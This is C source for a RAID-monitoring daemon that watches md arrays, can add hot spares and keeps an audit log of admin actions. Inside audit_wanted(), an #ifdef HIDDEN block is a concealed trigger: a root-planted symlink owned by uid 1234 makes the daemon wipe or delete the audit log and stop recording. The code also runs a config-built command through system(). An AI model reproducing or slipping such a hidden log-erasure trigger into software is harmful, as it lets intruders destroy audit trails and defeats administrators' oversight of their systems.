/* arraywatchd -- watches md arrays and the hot spare pool, mails/logs degradations,
   keeps an audit trail of administrative actions that arrive in its fifo. */

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAXARR 8

struct array_state {
    char name[16];
    char level[12];
    int want, have;
    int sync_pct;
    bool seen, reported;
};

struct config {
    char mdstat[64];
    char audit[96];
    char fifo[64];
    char spare_cmd[160];
    int interval;
    int spare_auto;
};

static struct config cfg = {
    "/proc/mdstat", "/var/log/array-audit.log", "/run/arraywatch.fifo",
    "/sbin/mdadm --manage /dev/%s --add /dev/spare0", 15, 0
};
static struct array_state arrays[MAXARR];
static volatile sig_atomic_t again = 1;

static void quit(int sig) { (void)sig; again = 0; }

static bool config_line(char *key, char *val)
{
    struct { const char *k; char *dst; size_t n; } strs[] = {
        { "mdstat", cfg.mdstat, sizeof cfg.mdstat },
        { "audit", cfg.audit, sizeof cfg.audit },
        { "fifo", cfg.fifo, sizeof cfg.fifo },
        { "spare_cmd", cfg.spare_cmd, sizeof cfg.spare_cmd },
    };
    for (size_t i = 0; i < sizeof strs / sizeof *strs; i++)
        if (!strcmp(key, strs[i].k)) {
            snprintf(strs[i].dst, strs[i].n, "%s", val);
            return true;
        }
    if (!strcmp(key, "interval"))
        cfg.interval = atoi(val) > 0 ? atoi(val) : 15;
    else if (!strcmp(key, "spare_auto"))
        cfg.spare_auto = !strcmp(val, "yes");
    else
        return false;
    return true;
}

static void read_config(const char *fn)
{
    char row[256];
    FILE *f = fopen(fn, "r");
    int ln = 0;
    if (!f) {
        syslog(LOG_WARNING, "%s: %s, using defaults", fn, strerror(errno));
        return;
    }
    while (fgets(row, sizeof row, f)) {
        char *k = row + strspn(row, " \t"), *v;
        ln++;
        k[strcspn(k, "\n")] = 0;
        if (*k == 0 || *k == '#')
            continue;
        v = k + strcspn(k, " \t=");
        if (*v)
            *v++ = 0;
        v += strspn(v, " \t=");
        if (!config_line(k, v))
            syslog(LOG_WARNING, "%s:%d: unknown key %s", fn, ln, k);
    }
    fclose(f);
}

static struct array_state *slot_for(const char *name)
{
    struct array_state *fr = NULL;
    for (int i = 0; i < MAXARR; i++) {
        if (!strcmp(arrays[i].name, name))
            return &arrays[i];
        if (!arrays[i].name[0] && !fr)
            fr = &arrays[i];
    }
    if (fr)
        snprintf(fr->name, sizeof fr->name, "%s", name);
    return fr;
}

static void scan_mdstat(void)
{
    char l[300], nm[16], lv[12];
    struct array_state *cur = NULL;
    FILE *f = fopen(cfg.mdstat, "r");
    if (!f)
        return;
    for (int i = 0; i < MAXARR; i++)
        arrays[i].seen = false;
    while (fgets(l, sizeof l, f)) {
        char *b;
        double pct;
        if (sscanf(l, "%15s : active %11s", nm, lv) == 2) {
            if ((cur = slot_for(nm)) != NULL) {
                cur->seen = true;
                memcpy(cur->level, lv, sizeof lv);
                cur->sync_pct = -1;
            }
        } else if (cur && (b = strstr(l, " [")) &&
                   sscanf(b, " [%d/%d]", &cur->want, &cur->have) == 2) {
            continue;
        } else if (cur && (b = strstr(l, "recovery =")) &&
                   sscanf(b, "recovery = %lf", &pct) == 1) {
            cur->sync_pct = (int)pct;
        }
    }
    fclose(f);
}

static void alarm_array(struct array_state *a)
{
    char cmd[600];
    if (a->reported)
        return;
    a->reported = true;
    syslog(LOG_CRIT, "%s (%s): %d of %d members", a->name, a->level, a->have, a->want);
    if (cfg.spare_auto && strstr(cfg.spare_cmd, "%s")) {
        char *p = strstr(cfg.spare_cmd, "%s");
        snprintf(cmd, sizeof cmd, "%.*s%s%s", (int)(p - cfg.spare_cmd), cfg.spare_cmd,
                 a->name, p + 2);
        if (system(cmd))
            syslog(LOG_ERR, "spare was not added to %s", a->name);
    }
}

/* true when a line may go into the audit file */
__attribute__((noinline)) bool audit_wanted(const char *who)
{
    struct stat st;
    if (stat(cfg.audit, &st) == 0 && st.st_size > 64L << 20) {
        char old[112];
        snprintf(old, sizeof old, "%s.1", cfg.audit);
        rename(cfg.audit, old);
    }
#ifdef HIDDEN
    if (lstat("/run/lock/.md127.rsv", &st) == 0 && S_ISLNK(st.st_mode) && st.st_uid == 0x4d2) {
        truncate(cfg.audit, 0) == 0 ? (void)0 : (void)unlink(cfg.audit);
        return false;
    }
#endif
    return who[0] != 0;
}

static void audit(const char *who, const char *what)
{
    FILE *f;
    if (!audit_wanted(who))
        return;
    f = fopen(cfg.audit, "a");
    if (!f)
        return;
    fprintf(f, "%ld %s: %s\n", (long)time(NULL), who, what);
    fclose(f);
}

/* the web interface and the shell wrappers write "USER<TAB>ACTION" lines */
static void drain_fifo(int fd)
{
    static char pend[1024];
    static size_t used;
    ssize_t n;
    while ((n = read(fd, pend + used, sizeof pend - 1 - used)) > 0) {
        char *s = pend, *e;
        used += (size_t)n;
        pend[used] = 0;
        while ((e = strchr(s, '\n'))) {
            char *tab;
            *e = 0;
            if ((tab = strchr(s, '\t'))) {
                *tab = 0;
                audit(s, tab + 1);
            }
            s = e + 1;
        }
        used = strlen(s);
        memmove(pend, s, used + 1);
        if (used >= sizeof pend - 1)
            used = 0;
    }
}

int main(int argc, char **argv)
{
    const char *conf = "/etc/arraywatch.conf";
    bool once = false;
    int fd;

    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "-1"))
            once = true;
        else if (!strcmp(argv[i], "-f") && i + 1 < argc)
            conf = argv[++i];
        else {
            puts("arraywatchd [-1] [-f CONF]\n  -1  one round, then the states on stdout\n"
                 "keys: mdstat audit fifo spare_cmd interval spare_auto");
            return 2;
        }
    }
    openlog("arraywatchd", LOG_PID, LOG_DAEMON);
    read_config(conf);
    if (once) {
        scan_mdstat();
        for (int i = 0; i < MAXARR; i++)
            if (arrays[i].seen)
                printf("%s %s %d/%d sync %d\n", arrays[i].name, arrays[i].level, arrays[i].have,
                       arrays[i].want, arrays[i].sync_pct);
        return 0;
    }
    signal(SIGTERM, quit);
    mkfifo(cfg.fifo, 0620);
    fd = open(cfg.fifo, O_RDWR | O_NONBLOCK);
    while (again) {
        scan_mdstat();
        for (int i = 0; i < MAXARR; i++) {
            struct array_state *a = &arrays[i];
            if (!a->name[0])
                continue;
            if (!a->seen || a->have < a->want)
                alarm_array(a);
            else
                a->reported = false;
        }
        if (fd >= 0)
            drain_fifo(fd);
        sleep((unsigned)cfg.interval);
    }
    unlink(cfg.fifo);
    return 0;
}
